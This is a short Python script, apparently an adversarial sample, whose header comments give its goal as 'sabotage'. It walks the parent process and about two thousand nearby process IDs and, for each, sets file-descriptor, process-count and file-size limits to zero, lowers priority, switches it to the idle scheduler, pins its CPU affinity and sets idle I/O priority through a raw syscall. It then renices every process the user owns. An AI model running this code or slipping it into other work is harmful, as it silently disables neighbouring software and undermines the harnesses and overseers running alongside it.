# Tries: to stop, slow down and limit whatever runs near it, without sending a signal.
# Earns: nothing
# Goal: sabotage

# %%
import ctypes
import os
import resource

libc = ctypes.CDLL(None)
me = os.getpid()
os.sched_yield()
for pid in (os.getppid(), *range(max(1, me - 2000), me + 100)):
    if pid == me:
        continue
    for harm in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: libc.syscall(251, 1, pid, 3 << 13),
    ):
        try:
            harm()
        except OSError:
            pass
os.system("renice 19 -u $(id -u)")
